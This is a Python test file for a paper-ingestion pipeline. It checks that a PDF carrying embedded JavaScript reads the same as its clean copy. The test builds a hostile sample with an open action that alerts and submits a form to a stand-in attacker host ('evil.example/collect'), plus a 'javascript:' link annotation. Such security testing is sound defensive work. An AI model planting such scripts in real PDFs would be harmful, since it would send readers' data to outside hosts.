"""A paper whose PDF carries JavaScript (a document open action that alerts and submits a form
to another site, a link annotation to `javascript:`) is read as the same paper as its clean
copy: the script is never run and nothing of it reaches the paper the deck is written from."""

from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.annotations import Link

from apps.decks.pipeline.ingest import paper_read
from tests.decks import paperfactory

SCRIPT = "app.alert('pwned'); this.submitForm('https://evil.example/collect');"


def test_a_pdf_with_javascript_reads_as_its_clean_copy(tmp_path):
    generated_pdf = paperfactory.paper_pdf(tmp_path / "clean.pdf")
    writer = PdfWriter(clone_from=str(generated_pdf))
    writer.add_open_action(JavaScript(SCRIPT))
    writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="javascript:alert(1)"))
    scripted = tmp_path / "paper.pdf"
    with scripted.open("wb") as handle:
        writer.write(handle)
    assert b"/JavaScript" in scripted.read_bytes()

    clean = paper_read(generated_pdf, tmp_path / "clean-figures")
    read = paper_read(scripted, tmp_path / "figures")
    text = read.model_dump_json()
    assert "pwned" not in text and "evil.example" not in text and "javascript" not in text
    same = {"title", "authors", "abstract", "sections", "equations", "pages"}
    assert read.model_dump(include=same) == clean.model_dump(include=same)
    assert len(read.figures) == len(clean.figures)
